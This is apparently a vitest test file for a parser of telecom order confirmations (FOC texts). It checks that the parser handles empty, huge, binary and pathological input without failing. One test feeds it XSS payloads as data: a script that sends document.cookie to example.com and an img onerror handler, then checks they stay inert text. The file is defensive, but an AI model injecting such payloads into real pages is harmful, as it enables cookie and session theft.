import { describe, expect, it } from 'vitest';
import { MAX_PASTE_CHARACTERS } from '../answers.ts';
import { readFoc } from './index.ts';
import { complete, lines, sure, tns } from './foc.fixtures.ts';

describe('readFoc: hostile and odd texts', () => {
  it('text that is not an FOC says what the reader looks for', () => {
    expect(readFoc('Lunch at noon?')).toEqual({
      issues: [
        {
          field: 'text',
          message: expect.stringMatching(
            /^No FOC fields found\. .*PON, VER, REQTYP, D\/TSENT, DD, ORD, TN, ECCKT and CCNA/,
          ) as string,
        },
      ],
      fieldsFound: 0,
    });
    expect(readFoc('')).toMatchObject({ fieldsFound: 0, issues: [{ field: 'text' }] });
  });

  it('only labels and no values: each label is reported', () => {
    const reading = readFoc(lines('PON:', 'VER:', 'DD', 'ORD: TN:'));
    expect(reading.fieldsFound).toBe(0);
    expect(reading.issues.map((issue) => [issue.field, issue.line])).toEqual([
      ['pon', 1],
      ['ver', 2],
      ['dueDate', 3],
      ['serviceOrders', 4],
      ['telephoneNumbers', 4],
    ]);
    expect(reading.issues[0]?.message).toBe(
      'The label “PON” has no value after it or on the next line: paste the FOC with its values, or type the PON yourself',
    );
  });

  it('over 1,000,000 characters: not read, and told to paste only the FOC', () => {
    const text = 'PON: ABC123\n'.repeat(MAX_PASTE_CHARACTERS / 12 + 1);
    expect(readFoc(text)).toEqual({
      tooLong: true,
      fieldsFound: 0,
      issues: [
        {
          field: 'text',
          message:
            'The pasted text is over 1,000,000 characters, too long to be one FOC. Paste only the FOC of this order: its e-mail or its ordering-system screen',
        },
      ],
    });
  });

  it('exactly 1,000,000 characters is still read', () => {
    const head = 'PON: ABC123\n';
    const text = head + ' '.repeat(MAX_PASTE_CHARACTERS - head.length);
    expect(readFoc(text)).toEqual(complete({ pon: sure('ABC123', 1, 'ABC123') }));
  });

  it('markup stays plain text: tags are spaces, nothing else is interpreted', () => {
    const reading = readFoc(
      lines(
        'PON: <b>ABC123</b>',
        '<script>document.location = "https://example.com/?" + document.cookie</script>',
        'VER: <img src=x onerror=alert(1)>02',
        'TN: &lt;script&gt;',
      ),
    );
    expect(reading.pon).toEqual(sure('ABC123', 1, 'ABC123'));
    expect(reading.ver).toEqual(sure('02', 3, '02'));
    expect(reading.telephoneNumbers).toBeUndefined();
    expect(reading.issues).toEqual([
      expect.objectContaining({ field: 'telephoneNumbers', line: 4 }),
    ]);
    expect(JSON.stringify(reading)).not.toMatch(/<script|<img/);
  });

  it('binary-ish junk, control characters and lone surrogates are read without throwing', () => {
    const junk = '\u0000\u0001PON\u0000: \uD800ABC\u200B123\u001B[31m\nDD:\u0007 11/24/2026\uFFFF';
    const reading = readFoc(junk);
    expect(reading.dueDate).toMatchObject({ value: '2026-11-24', line: 2 });
    expect(readFoc('\uD83D'.repeat(1000))).toMatchObject({ fieldsFound: 0 });
  });

  it('never throws, even when called with something that is not text', () => {
    const values: unknown[] = [undefined, null, 42, {}, ['PON: ABC123']];
    for (const value of values) {
      expect(readFoc(value as string)).toMatchObject({ fieldsFound: 0 });
    }
  });

  it('lists at most 10 problems a field, then says how many more', () => {
    const text = Array.from({ length: 25 }, (_, i) => `TN: 214-555-${String(i)}`).join('\n');
    const issues = readFoc(text).issues;
    expect(issues).toHaveLength(11);
    expect(issues.at(-1)).toEqual({
      field: 'telephoneNumbers',
      message:
        '15 more problems with the telephone numbers (TN) are not listed: fix the ones above and paste again',
    });
  });

  it('counts a range as all its numbers and never lists them one by one', () => {
    const reading = readFoc('TN: 214-555-0000-9999, 214-555-0100-0199, 214-556-0101');
    expect(reading.telephoneNumbers?.value).toEqual(
      tns(['214-555-0000-9999', '214-555-0100-0199', '214-556-0101'], 10_001),
    );
  });

  it('says when the numbers are more than one list can take', () => {
    const text = `TN:\n${Array.from({ length: 12 }, (_, i) => `214-${String(220 + i)}-0000-9999`).join('\n')}`;
    const reading = readFoc(text);
    expect(reading.telephoneNumbers).toMatchObject({ sure: false, value: { count: 120_000 } });
    expect(reading.issues).toEqual([
      {
        field: 'telephoneNumbers',
        message:
          'The text holds more than 100,000 telephone numbers, more than one list can take. Split the numbers into lists of up to 100,000 and paste each with its FOC fields',
      },
    ]);
  });

  it('stops reading numbers past what one list can take, and says so', () => {
    const text = `TN:\n${Array.from({ length: 30 }, (_, i) => `214-${String(220 + i)}-0000-9999`).join('\n')}`;
    const reading = readFoc(text);
    expect(reading.telephoneNumbers).toMatchObject({ sure: false });
    expect(reading.telephoneNumbers?.value.count).toBeLessThanOrEqual(200_000);
    expect(reading.issues).toEqual([
      expect.objectContaining({
        field: 'telephoneNumbers',
        message: expect.stringMatching(
          /^The text holds more than 100,000 telephone numbers/,
        ) as string,
      }),
    ]);
  });

  it('reads an FOC of 10,000 telephone numbers, one per line', () => {
    const numbers = Array.from({ length: 10_000 }, (_, i) => {
      const line = String(i % 10_000).padStart(4, '0');
      return `214-${String(220 + (i % 7))}-${line}`;
    });
    const text = lines('PON: ABC123', 'DD: 11/24/2026', 'TN:', ...numbers);
    const reading = readFoc(text);
    expect(reading.telephoneNumbers?.value.count).toBe(10_000);
    expect(reading.telephoneNumbers?.value.entries).toHaveLength(10_000);
    expect(reading.telephoneNumbers?.line).toBe(4);
    expect(reading.telephoneNumbers?.sure).toBe(true);
    // How long it takes is `npm run bench`'s to measure (docs/foc.md), not a test's to assert.
  });

  it.each([
    ['a long run of spaces', `PON: x${' '.repeat(300_000)}y`],
    ['a long token', `orders N${'1'.repeat(300_000)}!`],
    ['a long run of slashes', `ECCKT: 73/HCGS/123456/000/NE\n${'/'.repeat(300_000)} x`],
    ['one line of repeated ranges', `TN: ${'214-555-0000-9999 '.repeat(50_000)}`],
    ['many header rows', 'PON,VER\n'.repeat(50_000)],
    ['a quote that never closes', `PON,VER\n"${'a,b\n'.repeat(100_000)}`],
  ])(
    'finishes on %s',
    (_, text) => {
      // A backtracking pattern or a quadratic step takes minutes here: the test's ceiling, far
      // above any busy machine's time, catches only such a hang.
      expect(readFoc(text)).toBeDefined();
    },
    60_000,
  );
});
